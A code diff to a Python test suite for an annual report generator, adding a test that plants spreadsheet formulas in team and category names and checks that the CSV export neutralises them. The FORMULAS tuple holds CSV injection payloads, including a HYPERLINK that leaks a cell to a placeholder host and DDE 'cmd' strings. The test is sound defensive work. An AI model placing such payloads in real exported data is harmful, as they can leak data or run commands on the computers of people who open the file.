@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime
 
 import pytest
@@ -38,6 +40,7 @@ from services.reporter.api_models import (
     Timeliness,
 )
 from services.reporter.client import ApiClient
+from services.reporter.csv_cells import FORMULA_STARTS
 from services.reporter.financial_year import FinancialYear
 from services.reporter.output import annual_files
 from services.reporter.report_models import AnnualReport, ServiceReport, Table
@@ -273,6 +276,11 @@ def csv_lines(report: AnnualReport) -> list[str]:
     return annual_files(report)[1].content.decode("utf-8").split("\r\n")
 
 
+def csv_file_rows(report: AnnualReport) -> list[list[str]]:
+    text = annual_files(report)[1].content.decode("utf-8")
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
 def test_an_empty_year_has_the_same_csv_header() -> None:
     full = csv_lines(assemble_annual(canned_inputs(), YEAR, GENERATED))
     empty = csv_lines(assemble_annual(canned_inputs(empty=True), YEAR, GENERATED))
@@ -309,9 +317,8 @@ EXPECTED_CSV_ROWS = [
 def test_csv_rows_are_figures_in_long_format(
     report: AnnualReport, expected: tuple[str, ...]
 ) -> None:
-    rows = annual_csv_rows(report)
-    assert all(len(r) == len(ANNUAL_CSV_HEADER) for r in rows)
-    assert ["2018-19", "children", *expected] in rows
+    assert all(len(r) == len(ANNUAL_CSV_HEADER) for r in annual_csv_rows(report))
+    assert ["2018-19", "children", *expected] in csv_file_rows(report)
 
 
 def test_the_csv_carries_no_free_text_and_no_names(report: AnnualReport) -> None:
@@ -358,3 +365,38 @@ def test_cases_on_a_team_the_reference_data_calls_inactive_or_unknown_still_coun
     assert (stage1.total.value, stage1.total.previous_year_value) == (83, 103)
     compliments = table(service(report, "children"), "compliments")
     assert compliments.total.previous_year_value == 19
+
+
+# What a spreadsheet would run as a formula (OWASP's CSV injection examples and the rest of
+# the characters that start one), planted in the names that reach the annual CSV.
+FORMULAS = (
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def test_team_and_nature_names_reach_the_annual_csv_as_text_never_as_formulas() -> None:
+    inputs = canned_inputs()
+    team_codes = ("children-community", "children-disability", "education-admissions")
+    team_names = dict(zip(team_codes, FORMULAS[:3], strict=True))
+    nature_names = dict(
+        zip(("assessment", "poor-communication", "delay"), FORMULAS[3:], strict=True)
+    )
+    teams = [t.model_copy(update={"name": team_names.get(t.code, t.name)}) for t in inputs.teams]
+    natures = [
+        n.model_copy(update={"name": nature_names.get(n.code, n.name)}) for n in inputs.natures
+    ]
+    planted = AnnualInputs(**{**vars(inputs), "teams": teams, "natures": natures})
+    rows = csv_file_rows(assemble_annual(planted, YEAR, GENERATED))
+    header = rows[0]
+    section, team, category = (header.index(c) for c in ("section", "team", "category"))
+    names = {r[team] for r in rows[1:]} | {r[category] for r in rows[1:] if r[section] == "natures"}
+    assert {f"'{name}" for name in FORMULAS} <= names
+    # Nothing in the file, in any column, starts a formula; the figures are still numbers.
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    value = header.index("value")
+    assert all(r[value] == "" or r[value].replace(".", "").isdigit() for r in rows[1:])
